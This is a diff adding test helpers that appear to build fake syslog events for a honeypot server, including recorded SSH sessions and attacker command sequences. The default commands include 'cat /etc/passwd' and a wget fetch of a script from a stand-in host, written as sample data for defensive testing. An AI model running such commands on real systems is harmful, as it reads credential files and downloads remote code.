@@ -37,3 +37,37 @@ export function authLine({ ts = new Date().toISOString(), decky, service, ip, us
   const b64 = Buffer.from(password).toString("base64");
   return `<134>1 ${ts} ${decky} ${service} - auth_attempt [relay@55555 username="${user}" principal="${user}" secret_printable="${password}" secret_b64="${b64}" src_ip="${ip}"]`;
 }
+
+// One shell session from connect to disconnect with a few commands a second apart, so the
+// server builds a session row and a behaviour profile for the address.
+// A shell session as a decky records it: the shard's JSONL lines sent in base64 pieces
+// (session_recording_chunk), then session_recorded. What is typed is echoed in the output.
+export function recordedSessionLines({ ip, decky = "omega-decky", sid = "rec1", text = "uname -a\r", now = Date.now() }) {
+  const lines = [JSON.stringify({ sid, hdr: { version: 2, width: 80, height: 24, timestamp: Math.floor(now / 1000), env: {} } })];
+  let t = 0;
+  for (const c of text) {
+    t += 0.1;
+    lines.push(JSON.stringify({ sid, t: Number(t.toFixed(6)), ch: "i", d: c }));
+    lines.push(JSON.stringify({ sid, t: Number((t + 0.01).toFixed(6)), ch: "o", d: c === "\r" ? "\r\nLinux web-01 6.1.0-18-amd64\r\nroot@web-01:~# " : c }));
+  }
+  const shard = lines.join("\n") + "\n";
+  const ts = new Date(now - 1000).toISOString().replace("Z", "+00:00");
+  const out = [];
+  for (let seq = 0, off = 0; off < shard.length; seq++, off += 600) {
+    const last = off + 600 >= shard.length;
+    const data = Buffer.from(shard.slice(off, off + 600), "utf8").toString("base64");
+    out.push(`<134>1 ${ts} ${decky} sessrec - session_recording_chunk [relay@55555 sid="${sid}" service="ssh" src_ip="${ip}" seq="${seq}" last="${last}" data_b64="${data}"]`);
+  }
+  out.push(`<134>1 ${ts} ${decky} sessrec - session_recorded [relay@55555 sid="${sid}" service="ssh" src_ip="${ip}" duration_s="${t.toFixed(3)}" bytes="${shard.length}" truncated="false"]`);
+  return out;
+}
+
+export function sessionLines({ ip, decky = "decky-03", sid = "s1", commands = ["uname -a", "id", "cat /etc/passwd", "wget http://198.51.100.9/x.sh"], now = Date.now() }) {
+  const at = (i) => new Date(now - (commands.length + 2 - i) * 1000).toISOString().replace("Z", "+00:00");
+  const sd = (extra = "") => `[relay@55555 sid="${sid}" src_ip="${ip}"${extra}]`;
+  return [
+    `<134>1 ${at(0)} ${decky} ssh - connect ${sd()}`,
+    ...commands.map((c, i) => `<134>1 ${at(i + 1)} ${decky} ssh - command ${sd(` command="${c.replace(/["\\\]]/g, "\\$&")}"`)}`),
+    `<134>1 ${at(commands.length + 1)} ${decky} ssh - disconnect ${sd()}`,
+  ];
+}
